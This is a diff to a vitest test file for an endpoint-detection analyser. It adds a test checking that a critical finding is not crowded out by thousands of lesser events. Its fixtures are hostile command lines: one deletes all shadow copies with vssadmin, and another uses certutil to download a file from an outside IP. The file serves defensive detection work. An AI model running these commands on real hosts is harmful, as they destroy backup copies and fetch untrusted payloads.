@@ -1,6 +1,7 @@
 /** Command lines and events that are padded: what no bound lets through is said, and is never called benign. */
 import { expect, test } from 'vitest';
 import { assessHosts, checkCommands, createHostWatch } from '../../../analysis/endpoint/index.ts';
+import { normalizeEvent } from '../../../analysis/events/index.ts';
 import { openRecording } from '../../../analysis/recordings/index.ts';
 
 const MIMIKATZ = 'vssadmin.exe delete shadows /all /quiet';
@@ -64,3 +65,24 @@ test('an event with more fields than are read counts as unread and is named', as
   expect(result).toMatchObject({ verdict: 'inconclusive', checked: [{ corpus: { items: 1, items_read: 0 } }] });
   expect(result.not_checked[0]?.why).toBe('it has more fields, values or layers than are read');
 });
+
+test('a grave finding is not crowded out by thousands of lesser ones', () => {
+  const watch = createHostWatch();
+  const all = [
+    ...Array.from({ length: 2_100 }, (_, index) => ({ command: 'certutil -urlcache -f http://198.51.100.7/a', index })),
+    { command: MIMIKATZ, index: 2_100 },
+  ];
+  for (const { command, index } of all) {
+    const event = normalizeEvent(start(command, { ProcessGuid: `{${index}}` }), `line ${index}`);
+    if (event) watch.note(event);
+  }
+  const { result } = assessHosts(watch, SEEN);
+  expect(result.findings[0]).toMatchObject({ severity: 'critical' });
+});
+
+const SEEN = {
+  source: 'events',
+  checked: { question: '?', corpus: { sha256: '0'.repeat(64), items: 1, items_read: 1 } },
+  not_checked: [],
+  data_versions: {},
+};
